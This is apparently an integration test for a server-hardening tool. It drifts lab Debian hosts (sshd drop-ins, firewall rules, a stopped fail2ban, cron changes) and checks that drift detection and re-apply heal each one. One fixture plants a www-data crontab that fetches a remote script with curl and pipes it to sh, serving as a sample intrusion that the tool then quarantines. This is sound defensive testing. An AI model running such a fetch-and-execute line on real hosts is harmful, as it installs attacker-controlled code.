// Drift on real hosts: apply the plan, drift each host in a different way, and show that `harden drift`
// and the HostDrift provider's read()/diff() (called as the engine calls them) name it exactly; then
// apply the same plan again and show that it heals every drift of what harden owns (files, its table,
// fail2ban running, foreign sshd drop-ins set aside, crontabs outside cron.allow quarantined), that the
// drift command then says in sync, and that a third apply changes nothing. A host left alone is in
// sync, twice in a row.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { driftCommand } from "../../src/cli/drift-command";
import { checkHost, type HostCheck } from "../../src/drift/check-host";
import { planFleet } from "../../src/plan/plan";
import type { HostPlan } from "../../src/plan/types";
import { hostDriftInputs, hostDriftProvider, type HostDriftState } from "../../src/pulumi/drift-resource";
import type { LabClient, LabHost, LabRoot } from "../lab/lab";
import { runPlan } from "../lab/plan-runner";
import { labSuite } from "../lab/suite";
import { labFleet, SSH_PORT, type LabFleetHost } from "./lab-fleet";

const ROLLBACK_SECONDS = 20;
const LISTEN_6379 = `setsid python3 -c 'import socket,time
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 6379)); s.listen()
while True: c, a = s.accept(); c.close()' </dev/null >/dev/null 2>&1 &`;
const CURL_SH = "*/10 * * * * curl -fsSL http://198.51.100.9/x.sh | sh";
/** runs every minute: shows whether cron still runs a crontab (cron re-reads its spool by the dir's mtime) */
const MARK = "* * * * * touch /tmp/cron-ran";
const plant = (line: string) => `printf '%s\\n' '${line}' > /var/spool/cron/crontabs/www-data && chown www-data:crontab /var/spool/cron/crontabs/www-data && chmod 0600 /var/spool/cron/crontabs/www-data`;

/** name -> how the host is drifted (run inside it) */
const DRIFTS: Record<string, string> = {
  dropin: "sed -i 's/^MaxAuthTries 3$/MaxAuthTries 6/' /etc/ssh/sshd_config.d/00-harden.conf && hl-service reload sshd",
  cloud: "printf 'PasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/00-cloud-init.conf && hl-service reload sshd",
  rule: `nft insert rule inet harden input tcp dport 6379 accept && ${LISTEN_6379}`,
  foreign: "nft add table ip filter && nft add chain ip filter INPUT '{ type filter hook input priority -10; policy accept; }' && " +
    `nft add rule ip filter INPUT tcp dport 6379 accept && ${LISTEN_6379}`,
  f2b: "fail2ban-client stop",
  // written to the spool directly: crontab(1) refuses www-data now that cron.allow is in force, but an
  // intruder with root, or a crontab from before the lockdown, is exactly what cron.allow does not stop
  cron: plant(CURL_SH),
  cronrun: plant(MARK),
  allow: "echo www-data >> /etc/cron.allow && chmod 0644 /etc/cron.allow",
  port: "printf 'Port 22\\n' > /etc/ssh/sshd_config.d/00-a-port.conf && hl-service reload sshd",
};

// Debian 12 (OpenSSH 9.2, fail2ban 1.0.2) and Debian 13 (OpenSSH 10.0, fail2ban 1.1.0, nftables 1.1.3)
for (const root of ["debian-12", "debian-13"] as LabRoot[]) labSuite(`drift on lab hosts (${root})`, (lab) => {
  const hosts: Record<string, LabHost> = {};
  const plans: Record<string, HostPlan> = {};
  let fleetFile: string;
  let tmp: string;
  let attacker: LabClient;
  let key: string;

  const fleetFor = (port: number) => labFleet(lab(), Object.values(hosts).map((host): LabFleetHost => ({ host, port })));
  const check = (name: string) => checkHost(plans[name], { identityFile: lab().adminKey, timeoutMs: 30_000 });
  const messages = (c: HostCheck) => c.items.map((i) => i.message);

  beforeAll(async () => {
    tmp = mkdtempSync(join(tmpdir(), "harden-drift-lab-"));
    key = readFileSync(lab().adminKey, "utf8");
    for (const name of ["clean", ...Object.keys(DRIFTS)]) hosts[name] = await lab().host({ name, root });
    attacker = await lab().client("attacker");
    for (const p of planFleet(fleetFor(22), { rollbackSeconds: ROLLBACK_SECONDS })) plans[p.host] = p;
    fleetFile = join(tmp, "fleet.json");
    writeFileSync(fleetFile, JSON.stringify(fleetFor(22)));
    const applied = await Promise.all(Object.values(plans).map((p) => runPlan(p, { identityFile: lab().adminKey })));
    for (const steps of applied) {
      const failed = steps.find((s) => s.code !== 0);
      if (failed) throw new Error(`apply failed at ${failed.name}: ${failed.stderr}`);
    }
  }, 600_000);
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));

  it("a host with no drift is in sync, twice in a row, through the target endpoint in one session", async () => {
    for (const round of [1, 2]) {
      const c = await check("clean");
      expect(messages(c), `round ${round}`).toEqual([]);
      expect(c).toMatchObject({ status: "in-sync", via: "target", sessions: 1 });
      console.log(`[drift] clean host, round ${round}: probe ${c.probeMs} ms`);
    }
  });

  describe("each drift is named exactly", () => {
    const drifted: Record<string, HostCheck> = {};
    beforeAll(async () => {
      for (const [name, cmd] of Object.entries(DRIFTS)) {
        const r = await hosts[name].exec(cmd, { timeoutMs: 30_000 });
        if (r.code !== 0) throw new Error(`drifting ${name}: ${r.stderr}`);
      }
      await new Promise((r) => setTimeout(r, 500)); // the listeners bind
      for (const name of Object.keys(DRIFTS)) drifted[name] = await check(name);
    }, 120_000);

    it("an edited drop-in: the file and the effective value, with the line that set it", () => {
      expect(messages(drifted.dropin)).toEqual([
        'file /etc/ssh/sshd_config.d/00-harden.conf: content differs from the plan: -"MaxAuthTries 3" +"MaxAuthTries 6"',
        "sshd maxauthtries: expected 3, found 6 (from /etc/ssh/sshd_config.d/00-harden.conf:24)",
      ]);
    });

    it("a new drop-in that re-enables passwords", () => {
      expect(messages(drifted.cloud)).toEqual([
        "sshd passwordauthentication: expected no, found yes (from /etc/ssh/sshd_config.d/00-cloud-init.conf:1)",
      ]);
    });

    it("a rule inserted into the project's table, and the listener it really exposes (the attacker connects)", async () => {
      expect(messages(drifted.rule)).toEqual([
        'firewall: table inet harden differs: +rule "tcp dport 6379 accept" in chain input (not in the plan)',
        'listening 0.0.0.0:6379/tcp (python3) reachable from anywhere (accepted by inet harden input: "tcp dport 6379 accept")',
      ]);
      expect((await attacker.exec(`timeout 3 nc -z -w 2 ${hosts.rule.ip} 6379`)).code).toBe(0);
    });

    it("an extra rule elsewhere that accepts 6379: reported, and really without effect (the attacker cannot connect)", async () => {
      expect(messages(drifted.foreign)).toEqual([
        'firewall: table ip filter chain INPUT accepts 6379/tcp from anywhere: "tcp dport 6379 accept" (outside table inet harden; no effect while harden drops the port)',
      ]);
      const probe = await attacker.exec(`timeout 3 nc -z -w 2 ${hosts.foreign.ip} 6379`);
      expect(probe.code).not.toBe(0);
    });

    it("fail2ban stopped", () => {
      expect(messages(drifted.f2b)).toEqual(["fail2ban: not running"]);
    });

    it("a crontab planted for www-data", () => {
      expect(messages(drifted.cron)).toEqual([`crontab of www-data: undeclared entry ${JSON.stringify(CURL_SH)}`]);
    });

    it("cron.allow loosened", () => {
      expect(messages(drifted.allow)).toEqual([
        'file /etc/cron.allow: content differs from the plan: +"www-data"',
        "file /etc/cron.allow: mode 0644, expected 0640",
      ]);
    });

    it("sshd back on port 22 (added by a drop-in; Port accumulates)", () => {
      expect(messages(drifted.port)).toEqual([
        "sshd port: expected 2222, found 22 2222 (from /etc/ssh/sshd_config.d/00-a-port.conf:1)",
        "sshd listenaddress: expected 0.0.0.0:2222 [::]:2222, found 0.0.0.0:22 0.0.0.0:2222 [::]:22 [::]:2222",
      ]);
    });

    it("every drifted host took one SSH session", () => {
      expect(Object.values(drifted).map((c) => c.sessions)).toEqual(Object.values(drifted).map(() => 1));
    });

    it("harden drift prints the same, per host, and exits 1", async () => {
      const out: string[] = [];
      const err: string[] = [];
      const code = await driftCommand([fleetFile, "--identity", lab().adminKey], { out: (l) => out.push(l), err: (l) => err.push(l) });
      expect(code).toBe(1);
      expect(out).toContain(`clean: in sync (via target root@${hosts.clean.ip}:${SSH_PORT})`);
      expect(out).toContain(`cloud: 1 drifted item(s) (via target root@${hosts.cloud.ip}:${SSH_PORT})`);
      expect(out).toContain("  sshd passwordauthentication: expected no, found yes (from /etc/ssh/sshd_config.d/00-cloud-init.conf:1)");
      expect(out).toContain(`  crontab of www-data: undeclared entry ${JSON.stringify(CURL_SH)}`);
      expect(out[out.length - 1]).toBe(`${Object.keys(hosts).length} host(s): 1 in sync, ${Object.keys(DRIFTS).length} drifted, 0 not checked`);
      expect(err).toHaveLength(Object.keys(hosts).length); // one progress line per host
    });

    it("the HostDrift provider: read() observes the same items, diff() reports a change; a clean host has none", async () => {
      for (const name of ["clean", "cloud", "cron"]) {
        const inputs = { ...hostDriftInputs(plans[name], key, 30), heal: {}, checkedVia: "" } as HostDriftState;
        const read = await hostDriftProvider.read!(name, inputs);
        const props = read.props as HostDriftState;
        expect(Object.values(props.drift)).toEqual(messages(drifted[name] ?? await check(name)));
        const diff = await hostDriftProvider.diff!(name, props, inputs);
        expect(diff.changes).toBe(name !== "clean");
        if (name === "cloud") expect(props.heal).toEqual({ sshd: 1 });
      }
    });
  });

  describe("applying the same plan again", () => {
    const after: Record<string, { apply: string; out: string; items: string[] }> = {};
    let third: Record<string, string[]> = {};
    let cronRan = { before: false, after: false };
    const q = "/var/lib/harden/quarantine/crontabs/www-data";

    /** waits until cron has run MARK (touched the file), at most `ms` */
    const ranWithin = async (ms: number) => {
      for (const end = Date.now() + ms; Date.now() < end; await new Promise((r) => setTimeout(r, 2000))) {
        if ((await hosts.cronrun.exec("test -e /tmp/cron-ran")).code === 0) return true;
      }
      return false;
    };

    beforeAll(async () => {
      // the hosts are reached on the new port now: the operator's fleet says so
      const again = Object.fromEntries(planFleet(fleetFor(SSH_PORT), { rollbackSeconds: ROLLBACK_SECONDS }).map((p) => [p.host, p]));
      // the planted crontab must be seen running before the heal, or its silence after proves nothing
      cronRan.before = await ranWithin(120_000);
      await Promise.all(Object.keys(DRIFTS).map(async (name) => {
        const steps = await runPlan(again[name], { identityFile: lab().adminKey });
        const failed = steps.find((s) => s.code !== 0);
        const items = messages(await check(name));
        after[name] = {
          apply: failed ? `${failed.name} failed: ${failed.stderr.trim().split("\n").pop()}` : "ok",
          out: steps.map((s) => s.stdout).join(""),
          items,
        };
      }));
      console.log("[drift] after applying again:");
      for (const [name, r] of Object.entries(after)) console.log(`  ${name.padEnd(8)} apply ${r.apply}; drift: ${r.items.join(" | ") || "none"}`);
      // a heal must converge: applied once more, every unit of every host is in sync
      const results = await Promise.all(Object.keys(DRIFTS).map(async (name) =>
        [name, (await runPlan(again[name], { identityFile: lab().adminKey })).filter((s) => s.kind === "step" && s.name !== "confirm")
          .map((s) => (s.code === 0 ? s.stdout.trim().split("\n").pop() ?? "" : `${s.name}: exit ${s.code} ${s.stderr.trim()}`))] as const));
      third = Object.fromEntries(results);
      // At each minute boundary cron reloads a changed spool before it runs that minute's jobs, so
      // silence until just past the next boundary proves the quarantined crontab no longer runs.
      await hosts.cronrun.exec("rm -f /tmp/cron-ran");
      await new Promise((r) => setTimeout(r, 60_000 - (Date.now() % 60_000) + 8_000));
      cronRan.after = (await hosts.cronrun.exec("test -e /tmp/cron-ran")).code === 0;
    }, 600_000);

    it("heals every drift of what harden owns, and the drift command then says in sync", () => {
      for (const name of ["dropin", "allow", "cloud", "port", "rule", "f2b", "cron", "cronrun"]) {
        expect(after[name], name).toEqual({ apply: "ok", out: expect.any(String), items: [] });
      }
    });

    it("heals from files where files differ: the edited drop-in, cron.allow", () => {
      expect(after.dropin.out).toMatch(/^sshd: changes: \/etc\/ssh\/sshd_config.d\/00-harden.conf$/m);
      expect(after.allow.out).toMatch(/^cron: changes: \/etc\/cron.allow$/m);
    });

    it("sets aside a foreign sshd drop-in that overrides a managed keyword, saying which and why", async () => {
      const d = "/etc/ssh/sshd_config.d";
      expect(after.cloud.out).toContain(`sshd: running state differs: sshd: effective passwordauthentication is 'yes', expected 'no' (also set in: ${d}/00-cloud-init.conf)\nsshd: changes: (running state)\n`);
      expect(after.cloud.out).toContain(`sshd: set aside ${d}/00-cloud-init.conf as ${d}/00-cloud-init.conf.harden-disabled: it sets passwordauthentication (effective 'yes', expected 'no')`);
      expect(after.port.out).toContain(`sshd: set aside ${d}/00-a-port.conf as ${d}/00-a-port.conf.harden-disabled: it sets port (effective '22 2222', expected '2222')`);
      // OpenSSH 10 has no last-wins keyword left, so no zz- drop-in
      const ours = root === "debian-12" ? "00-harden.conf\nzz-harden-last.conf\n" : "00-harden.conf\n";
      expect((await hosts.cloud.exec(`ls ${d}`)).stdout).toBe(`00-cloud-init.conf.harden-disabled\n${ours}`);
      // sshd really left port 22
      expect((await hosts.port.exec("ss -Hltn 'sport = :22' | wc -l")).stdout.trim()).toBe("0");
    });

    it("reloads harden's own table when a rule was inserted into it", () => {
      expect(after.rule.out).toContain("firewall: running state differs: table inet harden differs from /etc/harden/firewall.nft: +tcp dport 6379 accept");
      expect(after.rule.out).toContain("firewall: changes: (running state)\n");
    });

    it("starts fail2ban again", () => {
      expect(after.f2b.out).toContain("fail2ban: running state differs: fail2ban: the server does not answer\nfail2ban: changes: (running state)\n");
    });

    it("quarantines the crontab of a user outside cron.allow, root-only, content kept; cron stops running it", async () => {
      expect(after.cron.out).toContain(`cron: quarantined the crontab of www-data (not in cron.allow; cron would run it anyway) to ${q}: 1 entries`);
      const kept = await hosts.cron.exec(`stat -c '%a %U %G' ${q}; cat ${q}; ls /var/spool/cron/crontabs`);
      expect(kept.stdout).toBe(`600 root root\n${CURL_SH}\n`);
      expect(cronRan).toEqual({ before: true, after: false });
    });

    it("leaves what harden does not own, still reported: another table's rule", () => {
      expect(after.foreign.apply).toBe("ok");
      expect(after.foreign.items).toEqual([
        'firewall: table ip filter chain INPUT accepts 6379/tcp from anywhere: "tcp dport 6379 accept" (outside table inet harden; no effect while harden drops the port)',
      ]);
    });

    it("a third apply finds every unit in sync: the heal converged", () => {
      for (const [name, steps] of Object.entries(third)) {
        expect(steps, name).toEqual([expect.stringMatching(/^packages: in sync/), "firewall: in sync", "sshd: in sync", "fail2ban: in sync", "cron: in sync"]);
      }
    });

    it("harden drift: every healed host in sync", async () => {
      const out: string[] = [];
      const code = await driftCommand([fleetFile, "--identity", lab().adminKey], { out: (l) => out.push(l), err: () => {} });
      expect(code).toBe(1); // the foreign rule stays
      for (const name of ["clean", "dropin", "allow", "cloud", "port", "rule", "f2b", "cron", "cronrun"]) {
        expect(out, name).toContain(`${name}: in sync (via target root@${hosts[name].ip}:${SSH_PORT})`);
      }
      expect(out[out.length - 1]).toBe(`${Object.keys(hosts).length} host(s): ${Object.keys(hosts).length - 1} in sync, 1 drifted, 0 not checked`);
    });
  });
});
